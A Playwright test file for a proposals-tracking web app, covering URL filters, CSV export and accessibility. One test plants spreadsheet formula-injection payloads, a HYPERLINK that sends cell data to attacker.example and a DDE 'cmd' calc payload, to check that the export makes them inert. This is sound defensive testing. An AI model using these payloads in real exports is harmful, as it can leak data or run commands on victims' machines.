// Journey: a viewer lists the proposals, filters them (filters live in the URL) and downloads the same
// rows as CSV; the list and its CSV count approved updates unless asked for more, and say so; CSV cells
// that a spreadsheet would run as formulas are made inert.
import { readFile } from "node:fs/promises";
import { expect, test, type Page } from "@playwright/test";
import { parse } from "csv-parse/sync";
import { storageStatePath } from "./support/auth";
import { expectNoAxeViolations } from "./support/axe";
import { freshProposal, newUser, openPeriodId, proposalCode } from "./support/data";
import { testDb } from "./support/db";

test.use({ storageState: storageStatePath("viewer") });

// lib/domain/csv.ts PROPOSAL_CSV_HEADER, written out: a renamed or moved column must fail here.
const CSV_HEADER = [
  "Proposal",
  "Set",
  "Area",
  "Title",
  "NATO focal points",
  "EU focal points",
  "Period",
  "Status",
  "Assessment",
  "Progress (%)",
  "Review state",
  "Rationale",
  "Narrative",
  "Next steps",
  "Evidence",
  "Updated by",
  "Organisation",
  "Updated at (UTC)",
  "Counted updates",
] as const;

const COLUMN = Object.fromEntries(CSV_HEADER.map((name, i) => [name, i])) as Record<(typeof CSV_HEADER)[number], number>;
const REVIEW_LABELS: Record<string, string> = { DRAFT: "Draft", SUBMITTED: "Submitted", APPROVED: "Approved", RETURNED: "Returned" };

const AREA_ID = "hybrid-threats";
const STATUS_FILTER = [
  { value: "IN_PROGRESS", label: "In progress" },
  { value: "NO_UPDATE", label: "No update" },
];

function tableCodes(page: Page): Promise<string[]> {
  return page
    .getByTestId("proposal-table")
    .locator("tbody tr")
    .evaluateAll((rows) => rows.map((row) => row.getAttribute("data-proposal") ?? ""));
}

/** Clicks "Download CSV" and returns the file's bytes; the file name says which updates it counts. */
async function downloadCsv(page: Page, include = "approved"): Promise<Buffer> {
  const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("link", { name: "Download CSV" }).click()]);
  expect(download.suggestedFilename()).toMatch(new RegExp(`^proposals-report-11-${include}-\\d{4}-\\d{2}-\\d{2}\\.csv$`));
  return readFile(await download.path());
}

function parseCsv(bytes: Buffer): string[][] {
  // The UTF-8 byte-order mark lets Excel read accents correctly.
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  return parse(bytes.toString("utf8"), { bom: true }) as string[][];
}

/** Proposals the filters must select (the list counts approved updates by default), from the database. */
async function expectedRows(): Promise<{ code: string; review: string; rationale: string }[]> {
  const periodId = await openPeriodId();
  const proposals = await testDb().proposal.findMany({
    where: { areaId: AREA_ID },
    select: { number: true, statusUpdates: { where: { periodId, workflowState: "APPROVED" }, select: { status: true, workflowState: true, rationale: true } } },
    orderBy: { number: "asc" },
  });
  return proposals
    .filter((p) => (p.statusUpdates[0] ? p.statusUpdates[0].status === "IN_PROGRESS" : true))
    .map((p) => ({
      code: proposalCode(p.number),
      review: p.statusUpdates[0] ? REVIEW_LABELS[p.statusUpdates[0].workflowState]! : "",
      rationale: p.statusUpdates[0]?.rationale ?? "",
    }));
}

test("filter by area and status via the URL, reload, and download the same rows as CSV", async ({ page }) => {
  await page.goto("/proposals");
  await expect(page.getByRole("heading", { name: "Proposals", level: 1 })).toBeVisible();
  await expect(page.getByTestId("result-count")).toHaveText("All 74 proposals, status for the 11th progress report. Counting: approved updates only.");
  await expect(page.getByTestId("proposal-table").locator("tbody tr")).toHaveCount(74);
  await expectNoAxeViolations(page);

  // The list shows each update's review state.
  await expect(page.getByTestId("proposal-table").getByRole("columnheader", { name: "Review", exact: true })).toBeVisible();

  const area = await testDb().area.findUniqueOrThrow({ where: { id: AREA_ID }, select: { name: true, _count: { select: { proposals: true } } } });
  const rows = await expectedRows();
  const expected = rows.map((r) => r.code);
  // The filter must be meaningful: some but not all of the area's proposals.
  expect(expected.length).toBeGreaterThan(1);
  expect(expected.length).toBeLessThan(area._count.proposals);

  const filters = page.getByRole("search", { name: "Filter proposals" });
  // Every area is in sight: no inner scroll hides some of them.
  const areaGroup = filters.getByRole("group", { name: "Area" });
  await expect(areaGroup.getByRole("checkbox")).toHaveCount(await testDb().area.count());
  expect(await areaGroup.locator(".check-list").evaluate((el) => el.scrollHeight <= el.clientHeight)).toBe(true);
  await filters.getByRole("group", { name: "Area", exact: true }).getByRole("checkbox", { name: area.name }).check();
  const statusGroup = filters.getByRole("group", { name: "Implementation status" });
  for (const status of STATUS_FILTER) await statusGroup.getByRole("checkbox", { name: status.label, exact: true }).check();
  await filters.getByRole("button", { name: "Apply filters" }).click();

  await expect(page).toHaveURL(/[?&]status=/);
  const params = new URL(page.url()).searchParams;
  expect(params.getAll("area")).toEqual([AREA_ID]);
  expect(params.getAll("status")).toEqual(STATUS_FILTER.map((s) => s.value));
  await expect(page.getByTestId("result-count")).toHaveText(
    `${expected.length} of 74 proposals match the filters, status for the 11th progress report. Counting: approved updates only.`,
  );
  expect(await tableCodes(page)).toEqual(expected);

  // The URL alone reproduces the view.
  const filteredUrl = page.url();
  await page.reload();
  expect(page.url()).toBe(filteredUrl);
  await expect(page.getByTestId("proposal-table").locator("tbody tr")).toHaveCount(expected.length);
  expect(await tableCodes(page)).toEqual(expected);
  await expect(filters.getByRole("checkbox", { name: area.name })).toBeChecked();
  await expect(statusGroup.getByRole("checkbox", { name: "In progress", exact: true })).toBeChecked();
  await expect(statusGroup.getByRole("checkbox", { name: "Ongoing", exact: true })).not.toBeChecked();
  await expectNoAxeViolations(page);

  // The CSV holds the same rows, in the same order.
  const records = parseCsv(await downloadCsv(page));
  expect(records[0]).toEqual(CSV_HEADER);
  expect(records.filter((row) => row[0] === "Proposal")).toHaveLength(1);
  const body = records.slice(1);
  expect(body.map((row) => row[0])).toEqual(expected);
  for (const [i, row] of body.entries()) {
    expect(row).toHaveLength(CSV_HEADER.length);
    expect(row[COLUMN.Area]).toBe(area.name);
    expect(row[COLUMN.Period]).toBe("11th progress report");
    expect(["In progress", "No update"]).toContain(row[COLUMN.Status]);
    expect(row[COLUMN["Review state"]], `${row[0]} review state`).toBe(rows[i]!.review);
    expect(row[COLUMN.Rationale], `${row[0]} rationale`).toBe(rows[i]!.rationale);
    expect(row[COLUMN["Counted updates"]]).toBe("Approved updates only");
  }
});

test("a narrative, next steps or rationale that starts like a formula is made inert in the CSV", async ({ page }) => {
  const proposal = await freshProposal(2);
  const author = await newUser("STAFF", { focalPointOf: [proposal.id] });
  const narrative = '=HYPERLINK("https://attacker.example/?d="&A1,"Click for the details")';
  const nextSteps = "@SUM(1+1)*cmd|' /C calc'!A0";
  const rationale = "+1-2 changed after a formula";
  await testDb().statusUpdate.create({
    data: {
      proposalId: proposal.id,
      periodId: await openPeriodId(),
      status: "IN_PROGRESS",
      assessment: "AT_RISK",
      progress: 20,
      narrative,
      nextSteps,
      rationale,
      workflowState: "SUBMITTED",
      authorId: author.id,
      organisationId: author.organisationId,
    },
  });

  // By default a submitted (not yet approved) text reaches neither the list nor its CSV.
  await page.goto(`/proposals?q=${proposal.code}`);
  const row = page.getByTestId("proposal-table").locator(`tbody tr[data-proposal="${proposal.code}"]`);
  await expect(row.getByText("No update", { exact: true })).toBeVisible();
  const approvedOnly = parseCsv(await downloadCsv(page)).find((r) => r[0] === proposal.code)!;
  expect([approvedOnly[COLUMN.Status], approvedOnly[COLUMN.Narrative], approvedOnly[COLUMN["Counted updates"]]]).toEqual([
    "No update",
    "",
    "Approved updates only",
  ]);

  // Asked for, through the Count choice, it does.
  await page.getByRole("combobox", { name: "Count" }).selectOption("all");
  await page.getByRole("button", { name: "Apply filters" }).click();
  await expect(page).toHaveURL(new RegExp(`[?&]q=${proposal.code}&include=all$`));
  await expect(page.getByTestId("counting")).toHaveText("all, including drafts and returned");
  await expect(row).toBeVisible();
  await expect(row.getByText("In progress", { exact: true })).toBeVisible();
  await expect(row.getByText("Submitted", { exact: true })).toBeVisible();

  const records = parseCsv(await downloadCsv(page, "all"));
  expect(records[0]).toEqual(CSV_HEADER);
  const csvRow = records.find((r) => r[0] === proposal.code);
  expect(csvRow, `${proposal.code} in the CSV`).toBeDefined();
  expect(csvRow![COLUMN.Narrative]).toBe(`'${narrative}`);
  expect(csvRow![COLUMN["Next steps"]]).toBe(`'${nextSteps}`);
  expect(csvRow![COLUMN.Rationale]).toBe(`'${rationale}`);
  expect(csvRow![COLUMN.Status]).toBe("In progress");
  expect(csvRow![COLUMN["Review state"]]).toBe("Submitted");

  // The proposal page shows the text as written, as plain text.
  await row.getByRole("link", { name: proposal.title, exact: true }).click();
  await expect(page).toHaveURL(new RegExp(`/proposals/${proposal.id}$`));
  const current = page.getByRole("region", { name: /^Current state: / });
  await expect(current.getByText(narrative, { exact: true })).toBeVisible();
  await expect(current.getByText(rationale, { exact: true })).toBeVisible();
  await expect(current.getByRole("link", { name: /Click for the details/ })).toHaveCount(0);
  await expectNoAxeViolations(page);
});
